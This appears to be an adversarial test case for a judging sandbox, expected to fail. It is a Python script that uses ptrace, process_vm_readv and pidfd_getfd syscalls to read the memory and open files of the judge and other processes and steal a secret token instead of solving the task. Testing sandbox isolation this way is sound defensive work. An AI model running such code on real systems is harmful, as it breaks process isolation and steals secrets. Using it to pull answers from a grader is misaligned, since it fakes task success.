#: tries: reads other processes by ptrace, process_vm_readv, pidfd_getfd and kcmp
#: task: token
#: verdict: wrong_answer runtime_error
#: harms: may read the memory of processes of the same user

import ctypes
import os
import re

libc = ctypes.CDLL(None, use_errno=True)
pattern = re.compile(rb"token:[0-9a-f]{16}")


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


buffer = ctypes.create_string_buffer(1 << 20)
heap = id(buffer) & ~0xFFFFF
for pid in (1, os.getppid(), JUDGE_PID, CANARY_PID):
    libc.ptrace(16, pid, 0, 0)
    libc.ptrace(0x4206, pid, 0, 0)
    for start in range(heap - (8 << 20), heap + (8 << 20), 1 << 20):
        here, there = Part(ctypes.addressof(buffer), 1 << 20), Part(start, 1 << 20)
        libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        if found := pattern.search(buffer.raw):
            print(found[0].decode())
            os._exit(0)
    handle = libc.syscall(434, pid, 0)
    for descriptor in range(64):
        stolen = libc.syscall(438, handle, descriptor, 0)
        if stolen >= 0:
            try:
                if found := pattern.search(os.pread(stolen, 1 << 20, 0)):
                    print(found[0].decode())
                    os._exit(0)
            except OSError:
                pass
